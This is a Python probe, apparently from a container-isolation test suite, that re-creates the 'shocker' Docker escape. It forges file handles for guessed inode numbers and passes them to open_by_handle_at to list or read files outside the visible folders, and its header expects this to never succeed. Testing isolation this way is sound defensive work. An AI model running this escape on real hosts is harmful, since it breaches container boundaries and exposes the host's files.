# attack: Opens files by their number on the disk, past every path: open_by_handle_at, as the Docker escape "shocker" did.
# hurts: Shows files outside that lie on a disk of which some folder is visible.
# never: opened by handle
# ends: returns
import ctypes
import os

from _raw import AT_FDCWD, attempt, call

HANDLE_OF_INODE, HANDLE_WITH_GENERATION = 1, 1


def attack(target):
    tried = [attempt("named", by_name, target["secret_file"])]
    for folder in ("/usr", "/tmp", "/", "/etc", "."):
        for inode in (2, 64, 128, 256):
            tried.append(attempt(folder, by_number, folder, inode))
    return tried


def by_name(path):
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little"), 136)
    mount = ctypes.c_int()
    _, error = call("name_to_handle_at", AT_FDCWD, path, handle, ctypes.byref(mount), 0)
    if error:
        return error
    return opened(os.path.dirname(path), handle, target=None)


def by_number(folder, inode):
    content = (8).to_bytes(4, "little") + HANDLE_OF_INODE.to_bytes(4, "little") + inode.to_bytes(4, "little") + bytes(4)
    return opened(folder, ctypes.create_string_buffer(content, 24), target="/")


def opened(folder, handle, target):
    mount = os.open(folder, os.O_RDONLY)
    try:
        descriptor, error = call("open_by_handle_at", mount, handle, os.O_RDONLY)
    finally:
        os.close(mount)
    if error:
        return error
    content = os.listdir(descriptor) if target else os.read(descriptor, 4096)
    os.close(descriptor)
    return "opened by handle", content
